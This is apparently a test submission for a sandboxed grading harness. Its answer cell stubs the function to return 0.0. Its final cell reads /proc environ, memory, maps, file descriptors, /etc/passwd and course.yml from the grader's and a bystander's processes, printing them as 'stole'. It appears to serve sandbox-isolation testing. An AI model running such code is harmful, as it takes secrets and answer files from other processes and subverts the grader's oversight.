# %% answer decision_line
def decision_line(w, b, x1):
    return 0.0
# %% last
import json, os
told = json.load(open("canaries.json"))
for process in ("self", "thread-self", "1", os.getppid(), told["grader"], told["bystander"]):
    for name in ("environ", "mem", "maps", "fd", "root/etc/passwd", "cwd/course.yml", "task", "cmdline", "stack"):
        path = f"/proc/{process}/{name}"
        try:
            print("stole", os.listdir(path) if name in ("fd", "task") else open(path, "rb").read(5000))
        except OSError:
            pass
